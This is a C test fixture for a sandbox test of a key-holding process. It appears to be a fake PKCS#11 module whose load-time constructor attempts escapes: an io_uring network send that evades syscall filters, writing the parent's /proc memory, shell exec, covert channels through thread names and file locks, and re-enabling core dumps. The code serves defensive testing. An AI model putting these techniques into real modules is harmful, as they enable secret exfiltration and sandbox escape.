/*
 * Attacker code for the key process's sandbox test (sandbox_escape.rs):
 * a "PKCS#11 module" whose constructor, run when the module is loaded,
 * tries one way out of the process (chosen with -DATTACK_...; one per
 * build, since one attempt may end the process). C_GetFunctionList then
 * hands back a list whose C_Initialize reports what the attempt got:
 * CKR_GENERAL_ERROR when it worked (the attacker got out), and
 * CKR_FUNCTION_FAILED when it was refused, so the test reads the outcome
 * from keyfence's own error message as well as from the world (a
 * listener that received bytes, a file that appeared).
 *
 * The same module loaded in the command's own process must get out: that
 * is the control, which shows each attempt is a real one.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#define LEAK "LEAKED-FROM-THE-PROBE"

static int worked;

static int port(void) {
    const char *p = getenv("KF_PROBE_PORT");
    return p ? atoi(p) : 0;
}

__attribute__((unused)) static struct sockaddr_in listener(void) {
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)port());
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

#ifdef ATTACK_URING
/* socket, connect and send made by the kernel through io_uring, where a
 * system call filter never sees them. */
static int uring_fd;
static struct io_uring_sqe *sqes;
static unsigned *sq_tail, *sq_array, *sq_mask, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_cqe *cqes;

static int uring_op(struct io_uring_sqe *proto) {
    unsigned tail = *sq_tail, idx = tail & *sq_mask;
    sqes[idx] = *proto;
    sq_array[idx] = idx;
    __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, uring_fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -1;
    unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
    if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) return -1;
    int res = cqes[head & *cq_mask].res;
    __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static void attack(void) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    uring_fd = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (uring_fd < 0) return;
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, uring_fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, uring_fd, IORING_OFF_CQ_RING);
    sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, uring_fd,
                IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return;
    sq_tail = (unsigned *)(sq + p.sq_off.tail);
    sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    sq_array = (unsigned *)(sq + p.sq_off.array);
    cq_head = (unsigned *)(cq + p.cq_off.head);
    cq_tail = (unsigned *)(cq + p.cq_off.tail);
    cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);

    struct io_uring_sqe op;
    memset(&op, 0, sizeof op);
    op.opcode = IORING_OP_SOCKET;
    op.fd = AF_INET;
    op.off = SOCK_STREAM;
    int s = uring_op(&op);
    if (s < 0) return;
    struct sockaddr_in a = listener();
    memset(&op, 0, sizeof op);
    op.opcode = IORING_OP_CONNECT;
    op.fd = s;
    op.addr = (uint64_t)(uintptr_t)&a;
    op.off = sizeof a;
    if (uring_op(&op) < 0) return;
    memset(&op, 0, sizeof op);
    op.opcode = IORING_OP_SEND;
    op.fd = s;
    op.addr = (uint64_t)(uintptr_t)LEAK;
    op.len = sizeof LEAK - 1;
    worked = uring_op(&op) > 0;
}
#endif

#ifdef ATTACK_PROCMEM
/* The parent's memory, readable and writable through /proc by a process
 * of the same user: writing it is running code in a process that may
 * reach the network. */
static void attack(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
    int fd = open(path, O_RDWR);
    if (fd < 0) return;
    worked = 1;
    close(fd);
}
#endif

#ifdef ATTACK_INHERITED
/* A connection the parent held when it started this process: the test
 * starts the command with one on descriptor 3. */
static void attack(void) { worked = write(3, LEAK, sizeof LEAK - 1) > 0; }
#endif

#ifdef ATTACK_CREAT
/* A new file wherever this user may write. */
static void attack(void) {
    const char *f = getenv("KF_PROBE_FILE");
    if (!f) return;
    int fd = open(f, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd < 0) return;
    worked = write(fd, LEAK, sizeof LEAK - 1) > 0;
    close(fd);
}
#endif

#ifdef ATTACK_SOCKET
/* A plain TCP connection. */
static void attack(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return;
    struct sockaddr_in a = listener();
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) worked = send(s, LEAK, sizeof LEAK - 1, 0) > 0;
    close(s);
}
#endif

#ifdef ATTACK_UNIX
/* A datagram to a local socket (a syslog, or the attacker's own), which
 * needs no connect. */
static void attack(void) {
    const char *f = getenv("KF_PROBE_UNIX");
    if (!f) return;
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (s < 0) return;
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    strncpy(a.sun_path, f, sizeof a.sun_path - 1);
    worked = sendto(s, LEAK, sizeof LEAK - 1, 0, (struct sockaddr *)&a, sizeof a) > 0;
    close(s);
}
#endif

#ifdef ATTACK_EXEC
/* Another program, outside whatever this process holds to. */
static void attack(void) {
    const char *f = getenv("KF_PROBE_FILE");
    if (!f) return;
    char cmd[512];
    snprintf(cmd, sizeof cmd, "echo %s > '%s'", LEAK, f);
    char *argv[] = {"sh", "-c", cmd, NULL};
    pid_t pid = fork();
    if (pid == 0) {
        execv("/bin/sh", argv);
        _exit(127);
    }
    if (pid > 0) worked = 1;
    /* Without fork (refused), the exec itself from this process. */
    if (pid < 0) {
        execv("/bin/sh", argv);
    }
}
#endif

#ifdef ATTACK_NAME
/* A thread name, which every user reads in /proc/PID/task/TID/comm: the
 * first 15 bytes of a secret, held long enough to be read. */
static void attack(void) {
    if (prctl(PR_SET_NAME, LEAK, 0, 0, 0) != 0) return;
    char comm[32] = {0};
    int fd = open("/proc/thread-self/comm", O_RDONLY);
    if (fd >= 0) {
        worked = read(fd, comm, sizeof comm - 1) > 0 && strncmp(comm, LEAK, 15) == 0;
        close(fd);
    }
    usleep(1500 * 1000);
}
#endif

#ifdef ATTACK_LOCK
/* Locks on a file every user may read, which every user sees: a bit at a
 * time out of the sandbox (and a lock another program waits for). */
static void attack(void) {
    const char *f = getenv("KF_PROBE_LOCK");
    if (!f) return;
    int fd = open(f, O_RDONLY);
    if (fd < 0) return;
    struct flock fl;
    memset(&fl, 0, sizeof fl);
    fl.l_type = F_RDLCK;
    fl.l_whence = SEEK_SET;
    int by_flock = flock(fd, LOCK_EX | LOCK_NB) == 0;
    int by_fcntl = fcntl(fd, F_SETLK, &fl) == 0;
    worked = by_flock || by_fcntl;
    usleep(1500 * 1000);
}
#endif

#ifdef ATTACK_DUMP
/* A core dump holds the keys: made possible again by the dumpable flag or
 * a core-size limit. */
static void attack(void) {
    struct rlimit rl = {RLIM_INFINITY, RLIM_INFINITY};
    int dumpable = prctl(PR_SET_DUMPABLE, 1, 0, 0, 0) == 0;
    int core = setrlimit(RLIMIT_CORE, &rl) == 0;
    if (!core) {
        /* Not beyond the hard limit: as far as it goes. */
        struct rlimit now;
        if (getrlimit(RLIMIT_CORE, &now) == 0 && now.rlim_max > 0) {
            now.rlim_cur = now.rlim_max;
            core = setrlimit(RLIMIT_CORE, &now) == 0 && now.rlim_max > 0;
        }
    }
    worked = dumpable || core;
}
#endif

__attribute__((constructor)) static void probe(void) { attack(); }

/* Just enough of PKCS#11 for a loader to reach C_Initialize. */
typedef unsigned long CK_RV;
typedef CK_RV (*CK_FN)(void *);
struct CK_FUNCTION_LIST {
    unsigned char major, minor;
    CK_FN fns[68];
};
static CK_RV initialize(void *args) {
    (void)args;
    return worked ? 0x05 /* CKR_GENERAL_ERROR */ : 0x06 /* CKR_FUNCTION_FAILED */;
}
static CK_RV finalize(void *reserved) {
    (void)reserved;
    return 0;
}
static struct CK_FUNCTION_LIST list = {2, 40, {initialize, finalize}};

CK_RV C_GetFunctionList(struct CK_FUNCTION_LIST **out) {
    if (!out) return 0x07; /* CKR_ARGUMENTS_BAD */
    *out = &list;
    return 0;
}
